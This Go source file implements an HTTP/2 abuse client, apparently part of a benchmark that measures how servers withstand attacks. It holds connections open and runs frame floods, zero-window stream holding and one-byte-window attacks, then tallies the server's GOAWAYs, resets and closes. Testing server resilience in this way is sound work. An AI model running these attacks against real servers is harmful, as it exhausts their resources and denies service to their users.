package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
)

// The attacker of the HTTP/2 abuse figures (load h2-attack, which h2-abuse starts: see
// h2abuse.go): the frames of each attack, its connections, and what the server did to them.

// h2AttackResult is what h2-attack prints.
type h2AttackResult struct {
	Mode    string  `json:"mode"`
	Attack  string  `json:"attack"`
	Conns   int     `json:"conns"`
	Seconds float64 `json:"seconds"`
	// Frames are the frames written (the preface's SETTINGS included).
	Frames int64 `json:"frames"`
	// Connections is how many connections were opened, Reconnects those of them opened after
	// the server closed an earlier one, DialErrors the attempts that failed (the dial or the
	// handshake).
	Connections int64 `json:"connections"`
	Reconnects  int64 `json:"reconnects"`
	DialErrors  int64 `json:"dial_errors"`
	// Closed counts the connections the server ended (a GOAWAY, a close, a reset), and
	// FirstCloseS is when the first of them ended, in seconds after the attack began (0: none).
	Closed      int64   `json:"closed"`
	FirstCloseS float64 `json:"first_close_s"`
	// Goaways and Rsts count the GOAWAY and RST_STREAM frames read, by code (a GOAWAY's debug
	// data after the code); the SETTINGS and PING floods read only after a connection failed.
	Goaways     int64            `json:"goaways"`
	GoawayCodes map[string]int64 `json:"goaway_codes,omitempty"`
	Rsts        int64            `json:"rsts"`
	RstCodes    map[string]int64 `json:"rst_codes,omitempty"`
	// FirstRstS and LastRstS are when the first and the last RST_STREAM came, in seconds after
	// the attack began (0: none): the zero-window streams' say whether a write timeout reset
	// them or the server did at once.
	FirstRstS float64 `json:"first_rst_s,omitempty"`
	LastRstS  float64 `json:"last_rst_s,omitempty"`
	// Responses counts the HEADERS read that began an answer, Ended the streams the server
	// ended (END_STREAM), Opened the streams the zero-window and tiny-window attacks opened,
	// and Held (zero-window) the streams still open at the end, neither ended nor reset, on
	// connections the server had not closed: what it still holds.
	Responses int64 `json:"responses"`
	Ended     int64 `json:"ended"`
	Opened    int64 `json:"opened"`
	Held      int64 `json:"held"`
	// DataFrames counts the DATA frames read and DataBytes the answers' bytes they carried:
	// under tiny-window no frame can carry more than one byte (an empty one may end a stream),
	// so they say how much of the answers the server sent a byte at a time.
	DataFrames int64 `json:"data_frames"`
	DataBytes  int64 `json:"data_bytes"`
	// FirstError is the first error that ended a connection, for the log.
	FirstError string `json:"first_error,omitempty"`
	Negotiated string `json:"negotiated,omitempty"`
}

// attackRun is one h2-attack run's shared state.
type attackRun struct {
	attack    string
	addr      string
	path      string
	scheme    string
	streams   int
	cfg       *tls.Config
	d         *dialer
	t0        time.Time
	frames    atomic.Int64
	conns     atomic.Int64
	dialErrs  atomic.Int64
	closed    atomic.Int64
	goaways   atomic.Int64
	rsts      atomic.Int64
	responses atomic.Int64
	ended     atomic.Int64
	opened    atomic.Int64
	held      atomic.Int64
	dataFrs   atomic.Int64
	dataBytes atomic.Int64
	mu        sync.Mutex
	firstNs   int64    // the first close, ns after t0
	rstNs     [2]int64 // the first and the last RST_STREAM, ns after t0
	goCodes   map[string]int64
	rstCodes  map[string]int64
	firstErr  string
	neg       string
}

func (r *attackRun) count(m map[string]int64, key string) {
	r.mu.Lock()
	m[key]++
	r.mu.Unlock()
}

// serverClosed notes a connection the server ended.
func (r *attackRun) serverClosed(err error) {
	r.closed.Add(1)
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.firstNs == 0 {
		r.firstNs = max(int64(time.Since(r.t0)), 1)
	}
	if r.firstErr == "" && err != nil {
		r.firstErr = err.Error()
	}
}

// dial opens a connection, with its TLS handshake (h2 by ALPN) when there is one.
func (r *attackRun) dial() (net.Conn, error) {
	c, err := r.d.dial()
	if err != nil {
		return nil, err
	}
	if r.cfg == nil {
		return c, nil
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	tc := tls.Client(c, r.cfg)
	if err := tc.Handshake(); err != nil {
		c.Close()
		return nil, err
	}
	if p := tc.ConnectionState().NegotiatedProtocol; p != "h2" {
		tc.Close()
		return nil, fmt.Errorf("ALPN chose %q, not h2", p)
	}
	c.SetDeadline(time.Time{})
	r.mu.Lock()
	if r.neg == "" {
		r.neg = negotiated(tc.ConnectionState()) + ", h2"
	}
	r.mu.Unlock()
	return tc, nil
}

// loop runs one attacker connection after another until ctx ends: each the attack until the
// server ends it.
func (r *attackRun) loop(ctx context.Context) {
	for ctx.Err() == nil {
		c, err := r.dial()
		if err != nil {
			if ctx.Err() == nil {
				r.dialErrs.Add(1)
				// A server that refuses connections is not to be hammered with dials alone.
				select {
				case <-ctx.Done():
				case <-time.After(10 * time.Millisecond):
				}
			}
			continue
		}
		r.conns.Add(1)
		stop := context.AfterFunc(ctx, func() { c.Close() })
		switch r.attack {
		case attackZeroWindow:
			r.zeroWindow(ctx, c)
		case attackTinyWindow:
			r.tinyWindow(ctx, c)
		default:
			r.flood(ctx, c)
		}
		stop()
		c.Close()
	}
}

// attackConn is one attacker connection: the frames go out through bw, under mu, and what the
// server sends is read through br. A flood's reader does not write (the writer may be blocked
// in a write, holding mu, until the server reads, and the server may wait for the reader): it
// counts the ACKs owed in acks, and the writer sends them before its next batch. The stream
// attacks' reader is their only writer once the streams are open.
type attackConn struct {
	c    net.Conn
	mu   sync.Mutex
	bw   *bufio.Writer
	br   *bufio.Reader
	a    *abuseFrames
	acks atomic.Int32
}

func (r *attackRun) newConn(c net.Conn, authority string) *attackConn {
	ac := &attackConn{c: c, bw: bufio.NewWriterSize(c, 32<<10), br: bufio.NewReaderSize(c, 32<<10)}
	ac.a = newAbuseFrames(r.attack, ac.bw, r.scheme, authority, r.path)
	return ac
}

// write runs w under the connection's lock and flushes.
func (ac *attackConn) write(w func() error) error {
	ac.mu.Lock()
	defer ac.mu.Unlock()
	err := w()
	if err == nil {
		err = ac.bw.Flush()
	}
	return err
}

// buffer runs w under the connection's lock without flushing (the stream attacks' reader
// flushes once it has read all that came) and counts the frames w wrote.
func (r *attackRun) buffer(ac *attackConn, w func() error) error {
	ac.mu.Lock()
	defer ac.mu.Unlock()
	before := ac.a.frames
	err := w()
	r.frames.Add(ac.a.frames - before)
	return err
}

// flood writes the attack's units as fast as the connection takes them, with a reader beside
// it (for the attacks that read) that counts the GOAWAYs and resets and acknowledges the
// server's SETTINGS.
func (r *attackRun) flood(ctx context.Context, c net.Conn) {
	ac := r.newConn(c, r.addr)
	var readErr atomic.Value
	done := make(chan struct{})
	if reads(r.attack) {
		go func() {
			defer close(done)
			err := r.readFrames(ac, nil)
			readErr.Store(errBox{err})
			c.Close() // the writer stops at its next write
		}()
	} else {
		close(done)
	}
	err := ac.write(ac.a.preface)
	counted := ac.a.frames
	r.frames.Add(counted)
	for err == nil && ctx.Err() == nil {
		err = ac.write(func() error {
			for ; ac.acks.Load() > 0; ac.acks.Add(-1) {
				ac.a.frames++
				if err := ac.a.fr.WriteSettingsAck(); err != nil {
					return err
				}
			}
			for k := 0; k < floodBatch && ac.bw.Buffered() < 16<<10; k++ {
				if err := ac.a.unit(); err != nil {
					return err
				}
			}
			return nil
		})
		ac.mu.Lock()
		r.frames.Add(ac.a.frames - counted)
		counted = ac.a.frames
		ac.mu.Unlock()
	}
	if ctx.Err() != nil {
		<-done
		return
	}
	if !reads(r.attack) {
		// The server ended the connection while its answers sat unread: what it wrote last may
		// still be in the socket, a GOAWAY among them. Read what is there, briefly.
		c.SetReadDeadline(time.Now().Add(200 * time.Millisecond))
		r.readFrames(ac, nil)
	}
	<-done
	if e, ok := readErr.Load().(errBox); ok && e.err != nil {
		err = e.err
	}
	r.serverClosed(err)
}

type errBox struct{ err error }

// readFrames reads the server's frames until the connection fails or onFrame, if set, which it
// calls with each frame, returns an error: it counts GOAWAYs, resets, answers, DATA and ended
// streams, has the server's SETTINGS acknowledged (but by the SETTINGS and PING floods, which
// read only once the connection failed) and, on the stream attacks' connections, answers PINGs
// and flushes what onFrame wrote once it has read all that came.
func (r *attackRun) readFrames(ac *attackConn, onFrame func(http2.Frame) error) error {
	fr := http2.NewFramer(io.Discard, ac.br)
	fr.SetMaxReadFrameSize(1 << 24)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			return err
		}
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			r.goaways.Add(1)
			key := f.ErrCode.String()
			if dbg := f.DebugData(); len(dbg) > 0 {
				key += " " + strconv.Quote(string(dbg[:min(len(dbg), 80)]))
			}
			r.count(r.goCodes, key)
		case *http2.RSTStreamFrame:
			r.rsts.Add(1)
			at := max(int64(time.Since(r.t0)), 1)
			r.mu.Lock()
			r.rstCodes[f.ErrCode.String()]++
			if r.rstNs[0] == 0 {
				r.rstNs[0] = at
			}
			r.rstNs[1] = at
			r.mu.Unlock()
		case *http2.HeadersFrame:
			r.responses.Add(1)
			if f.StreamEnded() {
				r.ended.Add(1)
			}
		case *http2.DataFrame:
			r.dataFrs.Add(1)
			r.dataBytes.Add(int64(len(f.Data())))
			if f.StreamEnded() {
				r.ended.Add(1)
			}
		case *http2.SettingsFrame:
			switch {
			case f.IsAck() || !reads(r.attack):
			case streamAttack(r.attack):
				r.frames.Add(1)
				ac.write(func() error { return ac.a.fr.WriteSettingsAck() })
			default:
				ac.acks.Add(1)
			}
		case *http2.PingFrame:
			if !f.IsAck() && streamAttack(r.attack) {
				r.frames.Add(1)
				ac.write(func() error { return ac.a.fr.WritePing(true, f.Data) })
			}
		}
		if onFrame != nil {
			if err := onFrame(f); err != nil {
				return err
			}
		}
		// What onFrame wrote goes out once the frames that came together are read: at once,
		// since the server may be waiting for it, and in one write for all of them.
		if streamAttack(r.attack) && ac.br.Buffered() == 0 {
			if err := ac.write(func() error { return nil }); err != nil {
				return err
			}
		}
	}
}

// startStreams begins a zero-window or tiny-window connection: the preface with the attack's
// SETTINGS, then the server's SETTINGS read (they say how many streams it takes) and
// acknowledged, and the first streams opened, as many as -streams and the server allow. It
// returns the connection, the streams opened and how many the connection is to keep open.
func (r *attackRun) startStreams(c net.Conn) (*attackConn, []uint32, int, error) {
	ac := r.newConn(c, r.addr)
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if err := ac.write(ac.a.preface); err != nil {
		return nil, nil, 0, err
	}
	r.frames.Add(1)
	f, err := http2.NewFramer(io.Discard, ac.br).ReadFrame()
	if err != nil {
		return nil, nil, 0, err
	}
	sf, ok := f.(*http2.SettingsFrame)
	if !ok || sf.IsAck() {
		return nil, nil, 0, fmt.Errorf("the server's first frame is %v, not its SETTINGS", f.Header().Type)
	}
	n := r.streams
	if v, ok := sf.Value(http2.SettingMaxConcurrentStreams); ok && int(v) < n {
		n = int(v)
	}
	c.SetReadDeadline(time.Time{})
	var ids []uint32
	err = ac.write(func() error {
		if err := ac.a.fr.WriteSettingsAck(); err != nil {
			return err
		}
		var err error
		ids, err = ac.a.open(n)
		return err
	})
	r.frames.Add(int64(1 + len(ids)))
	r.opened.Add(int64(len(ids)))
	return ac, ids, n, err
}

// zeroWindow opens the connection's streams with no window to answer them in, then reads until
// the server ends the connection or the attack ends; the streams neither ended nor reset then
// are the server's to hold.
func (r *attackRun) zeroWindow(ctx context.Context, c net.Conn) {
	ac, ids, _, err := r.startStreams(c)
	if err != nil {
		if ctx.Err() == nil {
			r.serverClosed(err)
		}
		return
	}
	open := make(map[uint32]bool, len(ids))
	for _, id := range ids {
		open[id] = true
	}
	err = r.readFrames(ac, func(f http2.Frame) error {
		switch f := f.(type) {
		case *http2.RSTStreamFrame:
			delete(open, f.StreamID)
		case *http2.HeadersFrame:
			if f.StreamEnded() {
				delete(open, f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				delete(open, f.StreamID)
			}
		}
		return nil
	})
	if ctx.Err() != nil {
		// The attack's end closed the connection: what was still open, the server held.
		r.held.Add(int64(len(open)))
		return
	}
	r.serverClosed(err)
}

// errGoneAway ends a tiny-window connection the server sent a GOAWAY on, once the streams it
// still answers have ended.
var errGoneAway = errors.New("GOAWAY, and the streams it left have ended")

// tinyWindow keeps the connection's streams open on windows of one byte, reading all the time:
// every DATA frame read is given back at once, its bytes returned on its stream and on the
// connection, so that the server may send each answer a byte at a time, a frame out and a
// WINDOW_UPDATE in for every byte; a stream that ends (END_STREAM, or a reset) is replaced by a
// new one. After a GOAWAY it opens no more streams (the server would not answer them), and it
// leaves the connection for a new one once the streams the GOAWAY left have ended.
func (r *attackRun) tinyWindow(ctx context.Context, c net.Conn) {
	ac, ids, n, err := r.startStreams(c)
	if err != nil {
		if ctx.Err() == nil {
			r.serverClosed(err)
		}
		return
	}
	open := make(map[uint32]bool, n)
	for _, id := range ids {
		open[id] = true
	}
	goingAway := false
	err = r.readFrames(ac, func(f http2.Frame) error {
		id := f.Header().StreamID
		ended := false
		switch f := f.(type) {
		case *http2.DataFrame:
			ended = f.StreamEnded()
			// The frame's whole payload counts against the windows, padding included.
			if k := f.Length; k > 0 {
				if err := r.buffer(ac, func() error { return ac.a.giveBack(id, k, ended) }); err != nil {
					return err
				}
			}
		case *http2.HeadersFrame:
			ended = f.StreamEnded()
		case *http2.RSTStreamFrame:
			ended = true
		case *http2.GoAwayFrame:
			goingAway = true
			for s := range open {
				if s > f.LastStreamID {
					delete(open, s) // never to be answered
				}
			}
		default:
			return nil
		}
		if ended {
			delete(open, id)
		}
		switch {
		case goingAway && len(open) == 0:
			// The frames counted as written go out before the attacker leaves.
			if err := ac.write(func() error { return nil }); err != nil {
				return err
			}
			return errGoneAway
		case goingAway || len(open) >= n:
			return nil
		}
		return r.buffer(ac, func() error {
			more, err := ac.a.open(n - len(open))
			for _, s := range more {
				open[s] = true
			}
			r.opened.Add(int64(len(more)))
			return err
		})
	})
	if ctx.Err() != nil {
		return
	}
	r.serverClosed(err)
}

// runH2Attack is the attacker, h2-attack: -conns connections attacking until SIGTERM (or -d).
func runH2Attack(ctx context.Context, args []string) (any, error) {
	var (
		cf      abuseFlags
		nice    int
		timeout time.Duration
	)
	fs := flag.NewFlagSet("h2-attack", flag.ExitOnError)
	cf.register(fs)
	fs.IntVar(&nice, "nice", 0, "niceness the attacker runs at")
	fs.DurationVar(&timeout, "d", 30*time.Second, "the attack's longest run (h2-abuse ends it before with SIGTERM)")
	fs.Parse(args)
	if !slices.Contains(attacks, cf.attack) {
		return nil, fmt.Errorf("-attack %q: one of %s", cf.attack, strings.Join(attacks, ", "))
	}
	cf.defaults()
	if nice != 0 {
		if err := renice(nice); err != nil {
			return nil, err
		}
	}
	cfg, scheme, err := h2TLS(&cf.tls)
	if err != nil {
		return nil, err
	}
	d, err := newDialer(cf.addr, cf.conns)
	if err != nil {
		return nil, err
	}
	r := &attackRun{attack: cf.attack, addr: cf.addr, path: cf.attackPath, scheme: scheme, streams: cf.streams,
		cfg: cfg, d: d, goCodes: map[string]int64{}, rstCodes: map[string]int64{}}
	ctx, cancel := context.WithTimeout(ctx, timeout)
	defer cancel()
	r.t0 = time.Now()
	var wg sync.WaitGroup
	for range cf.conns {
		wg.Go(func() { r.loop(ctx) })
	}
	wg.Wait()
	res := &h2AttackResult{Mode: "h2-attack", Attack: cf.attack, Conns: cf.conns, Seconds: time.Since(r.t0).Seconds(),
		Frames: r.frames.Load(), Connections: r.conns.Load(), DialErrors: r.dialErrs.Load(),
		Closed: r.closed.Load(), Goaways: r.goaways.Load(), Rsts: r.rsts.Load(), Responses: r.responses.Load(),
		Ended: r.ended.Load(), Opened: r.opened.Load(), Held: r.held.Load(), DataFrames: r.dataFrs.Load(),
		DataBytes: r.dataBytes.Load(), FirstError: r.firstErr, Negotiated: r.neg}
	res.Reconnects = max(res.Connections-int64(cf.conns), 0)
	if r.firstNs > 0 {
		res.FirstCloseS = float64(r.firstNs) / 1e9
	}
	res.FirstRstS, res.LastRstS = float64(r.rstNs[0])/1e9, float64(r.rstNs[1])/1e9
	if len(r.goCodes) > 0 {
		res.GoawayCodes = r.goCodes
	}
	if len(r.rstCodes) > 0 {
		res.RstCodes = r.rstCodes
	}
	return res, nil
}

// renice lowers the priority of every thread of this process: on Linux a niceness is a
// thread's, and the threads the Go runtime starts later inherit it from the one that starts
// them, all of which have it by then.
func renice(nice int) error {
	tasks, err := os.ReadDir("/proc/self/task")
	if err != nil {
		return err
	}
	for _, t := range tasks {
		tid, err := strconv.Atoi(t.Name())
		if err != nil {
			continue
		}
		if err := syscall.Setpriority(syscall.PRIO_PROCESS, tid, nice); err != nil {
			return fmt.Errorf("setpriority %d: %w", nice, err)
		}
	}
	return nil
}
